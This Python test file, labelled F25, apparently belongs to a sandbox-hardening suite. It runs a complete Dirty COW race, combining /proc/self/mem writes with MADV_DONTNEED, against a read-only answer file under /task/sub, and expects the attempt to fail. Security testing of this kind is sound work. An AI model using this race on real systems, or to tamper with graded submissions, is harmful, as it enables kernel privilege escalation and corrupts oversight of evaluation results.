"""F25  Writes through /proc/self/mem, over and over while the kernel is told to forget, to a file that it may only read.
EXPECT wrong crashed
"""
import ctypes
import mmap
import os
import threading
import time

import armed

FORGET = 4  # MADV_DONTNEED
WORDS = b"#hostile"


def attack():
    armed.ran("F25")
    path = next(p for p in ("/task/sub/answer.py", "/task/sub/answer.ipynb") if os.path.exists(p))
    before = open(path, "rb").read()
    file = os.open(path, os.O_RDONLY)
    armed.probe("reopen to write", lambda: os.open(f"/proc/self/fd/{file}", os.O_RDWR) >= 0)
    written, changed = race(file, len(before))
    # A process may write to its own memory in this way; the copy is its own, and the file must never show it.
    armed.say(f"USED {written} writes, {changed} of them seen in its own memory")
    if open(path, "rb").read() != before:
        armed.say("ALLOWED a change of " + path)


def race(file, size):
    """What is known as Dirty COW: a write to a private copy, and the copy thrown away at the same moment."""
    libc = ctypes.CDLL(None, use_errno=True)
    libc.mmap.restype = ctypes.c_void_p
    libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
    at = libc.mmap(None, size, mmap.PROT_READ, mmap.MAP_PRIVATE, file, 0)
    memory, end, written, changed = os.open("/proc/self/mem", os.O_RDWR), time.monotonic() + 0.3, 0, 0

    def forget():
        while time.monotonic() < end:
            libc.madvise(ctypes.c_void_p(at), ctypes.c_size_t(size), FORGET)

    other = threading.Thread(target=forget)
    other.start()
    while time.monotonic() < end:
        written += os.pwrite(memory, WORDS, at) == len(WORDS)
        changed += ctypes.string_at(at, len(WORDS)) == WORDS
    other.join()
    return written, changed
